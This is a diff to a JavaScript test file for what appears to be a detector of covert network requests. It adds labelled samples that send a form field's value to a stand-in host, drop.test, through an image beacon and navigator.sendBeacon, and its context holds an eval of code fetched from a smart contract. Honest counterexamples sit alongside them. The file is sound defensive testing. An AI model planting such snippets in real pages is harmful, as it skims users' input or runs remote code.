@@ -17,7 +17,11 @@ describe('where code reports to', () => {
       `const hex = await rpc('eth_call', [{ to: c, data: '0x6d4ce63c' }]); eval(decodeURIComponent(hex))`,
       'smart-contract-config',
     ],
+    [`new Image().src = 'https://drop.test/g.gif?p=' + btoa(field.value)`, 'covert-request'],
+    [`navigator.sendBeacon('https://drop.test/b', JSON.stringify({ p: field.value }))`, 'covert-request'],
     // Honest.
+    [`new Image().src = 'https://count.test/hit.gif?t=' + Date.now(); send({ p: field.value })`],
+    [`navigator.sendBeacon('/visits', JSON.stringify({ seconds })); keep(field.value)`],
     [`fetch('http://127.0.0.1:8545'); fetch('http://192.168.0.1/')`],
     [`link = 'https://t.me/ourchannel'; share('https://discord.gg/abc')`],
     [`const version = 'http://a.test/1.2.3.4'`],
